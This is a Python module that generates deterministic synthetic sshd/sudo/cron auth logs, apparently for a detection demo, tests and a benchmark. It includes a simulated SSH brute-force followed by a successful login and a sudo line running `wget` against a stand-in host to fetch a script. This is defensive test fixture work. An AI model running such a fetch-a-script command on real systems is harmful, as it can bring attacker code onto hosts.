"""Realistic sshd/sudo/cron auth logs, generated from a seed: the demo's, the tests' and the bench's.

Lines look like Debian 12's rsyslog output (RFC 3339 timestamps with the local offset):
`2026-11-23T08:15:02.123456+07:00 portal sshd[4242]: Accepted publickey for ...`.

Background: administrators signing in with keys from the agency's internal network (and now and
then mistyping a password once or twice), cron sessions, sudo, and internet scanners trying one or
two user names each — all below the brute-force rule's threshold. `Attack` adds one intrusion: a
burst of failed passwords from one address, then a successful password login from it.
Deterministic: the same spec always yields the same lines.
"""

from __future__ import annotations

import ipaddress
import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone

ICT = timezone(timedelta(hours=7), "ICT")
SCANNER_NET = ipaddress.ip_network("198.51.100.0/24")
SCANNED_USERS = ("admin", "test", "oracle", "ubuntu", "user", "ftpuser", "postgres", "git", "pi", "guest")
KEY_ALPHABET = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz0123456789"
SUDO_COMMANDS = ("/usr/bin/systemctl restart nginx", "/usr/bin/apt-get update", "/usr/bin/journalctl -u sshd",
                 "/usr/bin/tail -n 100 /var/log/nginx/error.log", "/usr/sbin/nginx -t")


@dataclass(frozen=True, slots=True)
class Attack:
    """A password brute force from `source` against `host`, then a success as `success_user`."""

    source: str
    at: datetime
    attempts: int = 40
    seconds_between: float = 4.0
    users: tuple[str, ...] = ("root", "admin", "administrator", "quantri")
    success_user: str | None = "quantri"


@dataclass(frozen=True, slots=True)
class AuthLogSpec:
    host: str
    start: datetime
    lines: int
    seed: int = 7
    duration: timedelta = timedelta(hours=24)
    internal_net: str = "10.20.0.0/16"
    admins: tuple[str, ...] = ("quantri", "vanhanh", "deploy")
    attacks: tuple[Attack, ...] = field(default_factory=tuple)


class _Writer:
    def __init__(self, spec: AuthLogSpec) -> None:
        self.spec = spec
        self.rng = random.Random(spec.seed)
        self.out: list[tuple[datetime, int, str]] = []
        self.pid = 1000 + self.rng.randrange(30000)

    def emit(self, ts: datetime, program: str, message: str, pid: int | None = None) -> None:
        pid = pid if pid is not None else self.next_pid()
        stamp = ts.astimezone(ICT).isoformat(timespec="microseconds")
        self.out.append((ts, len(self.out), f"{stamp} {self.spec.host} {program}[{pid}]: {message}"))

    def next_pid(self) -> int:
        self.pid += self.rng.randrange(1, 40)
        return self.pid

    def internal_ip(self) -> str:
        net = ipaddress.ip_network(self.spec.internal_net)
        return str(net[self.rng.randrange(2, min(net.num_addresses - 1, 5000))])

    def port(self) -> int:
        return self.rng.randrange(32768, 61000)


def _admin_login(w: _Writer, ts: datetime) -> None:
    user, ip, pid = w.rng.choice(w.spec.admins), w.internal_ip(), w.next_pid()
    for _ in range(w.rng.choices((0, 1, 2), (85, 12, 3))[0]):  # a typo or two, then the right password
        w.emit(ts, "sshd", f"Failed password for {user} from {ip} port {w.port()} ssh2", pid)
        ts += timedelta(seconds=w.rng.uniform(2, 9))
    method = w.rng.choice(("publickey", "publickey", "password"))
    key = " ED25519 SHA256:" + "".join(w.rng.choices(KEY_ALPHABET, k=43)) if method == "publickey" else ""
    w.emit(ts, "sshd", f"Accepted {method} for {user} from {ip} port {w.port()} ssh2{key}", pid)
    w.emit(ts, "sshd", f"pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)", pid)
    if w.rng.random() < 0.5:
        command = w.rng.choice(SUDO_COMMANDS)
        w.emit(ts + timedelta(seconds=w.rng.uniform(5, 120)), "sudo",
               f"{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}", w.next_pid())
    w.emit(ts + timedelta(minutes=w.rng.uniform(1, 50)), "sshd",
           f"pam_unix(sshd:session): session closed for user {user}", pid)


def _scanner(w: _Writer, ts: datetime) -> None:
    ip = str(SCANNER_NET[w.rng.randrange(2, 254)])
    for user in w.rng.sample(SCANNED_USERS, w.rng.randint(1, 2)):
        pid = w.next_pid()
        w.emit(ts, "sshd", f"Invalid user {user} from {ip} port {w.port()}", pid)
        w.emit(ts, "sshd", f"Failed password for invalid user {user} from {ip} port {w.port()} ssh2", pid)
        w.emit(ts, "sshd", f"Connection closed by invalid user {user} {ip} port {w.port()} [preauth]", pid)
        ts += timedelta(seconds=w.rng.uniform(20, 90))


def _cron(w: _Writer, ts: datetime) -> None:
    pid = w.next_pid()
    w.emit(ts, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", pid)
    w.emit(ts + timedelta(seconds=1), "CRON", "pam_unix(cron:session): session closed for user root", pid)


def _attack(w: _Writer, attack: Attack) -> None:
    ts = attack.at
    for i in range(attack.attempts):
        user = attack.users[i % len(attack.users)]
        w.emit(ts, "sshd", f"Failed password for {user} from {attack.source} port {w.port()} ssh2")
        ts += timedelta(seconds=attack.seconds_between * w.rng.uniform(0.5, 1.5))
    if attack.success_user:
        pid = w.next_pid()
        user = attack.success_user
        w.emit(ts, "sshd", f"Accepted password for {user} from {attack.source} port {w.port()} ssh2", pid)
        w.emit(ts, "sshd", f"pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)", pid)
        w.emit(ts + timedelta(seconds=40), "sudo", f"{attack.success_user} : TTY=pts/1 ; PWD=/home/"
               f"{attack.success_user} ; USER=root ; COMMAND=/usr/bin/wget -q http://203.0.113.99/x.sh", w.next_pid())


def generate_auth_log(spec: AuthLogSpec) -> list[str]:
    """About `spec.lines` lines (a little more with attacks), sorted by time."""
    w = _Writer(spec)
    for attack in spec.attacks:
        _attack(w, attack)
    kinds = (_admin_login, _scanner, _cron)
    while len(w.out) < spec.lines:
        ts = spec.start + spec.duration * w.rng.random()
        w.rng.choices(kinds, (30, 15, 55))[0](w, ts)
    w.out.sort()
    return [line for _, _, line in w.out]
